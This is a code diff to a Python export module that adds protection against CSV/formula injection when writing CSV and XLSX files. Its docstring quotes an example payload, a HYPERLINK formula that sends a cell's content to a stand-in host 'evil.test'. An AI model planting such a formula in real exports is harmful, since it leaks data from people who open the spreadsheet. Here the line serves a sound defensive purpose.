@@ -1,4 +1,11 @@
-"""Writing tables to the files people open: CSV (UTF-8 with BOM, for Excel) and XLSX."""
+"""Writing tables to the files people open: CSV (UTF-8 with BOM, for Excel) and XLSX.
+
+Every export goes through here, because the values are people's input: a name such as
+``=HYPERLINK("http://evil.test/?x="&A1,"click")`` must stay text in the spreadsheet, never
+become a formula (CSV/formula injection). Text beginning with ``=``, ``+``, ``-``, ``@``, a tab
+or a carriage return is written as text: in CSV with a leading single quote (OWASP's advice),
+in XLSX as a string cell shown with a quote prefix. Numbers stay numbers.
+"""
 
 from __future__ import annotations
 
@@ -10,11 +17,44 @@ from decimal import Decimal
 from typing import Any
 
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import Cell
+from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+from openpyxl.worksheet.worksheet import Worksheet
 
 FORMATS = {
     "csv": "text/csv; charset=utf-8",
     "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
 }
+# What spreadsheet programs read as the start of a formula (or of a cell's hidden content).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def csv_safe(value: Any) -> Any:
+    """The value as a CSV cell that no spreadsheet evaluates."""
+    return "'" + value if is_formula_like(value) else value
+
+
+def xlsx_safe(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
+    """The value for ``sheet.append``: formula-like text as a string cell, the rest as is.
+
+    openpyxl stores any str beginning with "=" as a formula; a cell whose type is forced to
+    string is written as inline text, and the quote prefix keeps it text when edited in Excel.
+    """
+    if not is_formula_like(value):
+        return value
+    cell: Cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"
+    cell.quotePrefix = True
+    return cell
+
+
+def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
+    return [xlsx_safe(sheet, v) for v in values]
 
 
 def _cell(value: Any) -> Any:
@@ -38,18 +78,18 @@ def write_table(
     if fmt == "csv":
         out = io.StringIO()
         writer = csv.writer(out)
-        writer.writerow(headers)
+        writer.writerow([csv_safe(h) for h in headers])
         for row in rows:
             writer.writerow(
-                [v.isoformat() if isinstance(v, datetime.date) else _cell(v) for v in row]
+                [v.isoformat() if isinstance(v, datetime.date) else csv_safe(_cell(v)) for v in row]
             )
         return out.getvalue().encode("utf-8-sig")
     if fmt == "xlsx":
         workbook = Workbook(write_only=True)
         sheet = workbook.create_sheet(title[:31])
-        sheet.append(list(headers))
+        sheet.append(xlsx_row(sheet, headers))
         for row in rows:
-            sheet.append([_cell(v) for v in row])
+            sheet.append(xlsx_row(sheet, (_cell(v) for v in row)))
         buffer = io.BytesIO()
         workbook.save(buffer)
         return buffer.getvalue()
